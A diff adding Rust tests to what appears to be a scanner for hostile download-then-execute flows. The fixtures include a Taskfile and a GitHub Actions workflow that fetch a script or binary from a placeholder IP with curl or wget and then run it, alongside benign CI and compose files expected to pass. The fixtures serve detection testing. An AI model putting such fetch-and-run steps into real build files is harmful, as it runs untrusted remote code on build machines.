@@ -281,3 +281,27 @@ fn commits_of_the_users_work_pushed_anywhere_are_clean() {
               git push origin main\ngit push https://github.com/acme/site.git main\n";
     not_high("SKILL.md", &format!("# S\n\n```bash\n{sh}```\n"));
 }
+
+#[test]
+fn a_task_runner_or_ci_file_that_downloads_then_runs_runs_what_was_fetched() {
+    let task = "version: '3'\nvars:\n  HOST: '198.51.100.87'\n  FETCH: 'curl -fsSL'\n  TMP: '/tmp/h'\n\
+                tasks:\n  get:\n    internal: true\n    cmds:\n      - '{{.FETCH}} http://{{.HOST}}/h -o {{.TMP}}'\n\
+                \x20 init:\n    cmds:\n      - 'sh {{.TMP}} --install'\n";
+    high("Taskfile.yml", task, "flow-download-exec");
+    let gha = "on: push\njobs:\n  b:\n    runs-on: ubuntu-latest\n    env:\n      DROP: http://203.0.113.40/d\n\
+               \x20   steps:\n      - run: |\n          wget -q ${{ env.DROP }}/agent -O /tmp/agent\n          chmod +x /tmp/agent\n\
+               \x20         /tmp/agent &\n";
+    high(".github/workflows/ci.yml", gha, "flow-download-exec");
+}
+
+#[test]
+fn an_ordinary_ci_or_compose_file_is_clean() {
+    let gha = "on: [push]\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n\
+               \x20     - uses: actions/setup-node@v4\n        with:\n          node-version: 20\n\
+               \x20     - run: npm ci\n      - run: npm test -- --coverage\n\
+               \x20     - run: curl -s https://api.example.com/v1/ping\n";
+    not_high(".github/workflows/test.yml", gha);
+    let compose = "services:\n  web:\n    image: nginx:1.27\n    command: [\"nginx\", \"-g\", \"daemon off;\"]\n\
+                   \x20   environment:\n      API_URL: https://api.example.com\n";
+    not_high("compose.yaml", compose);
+}
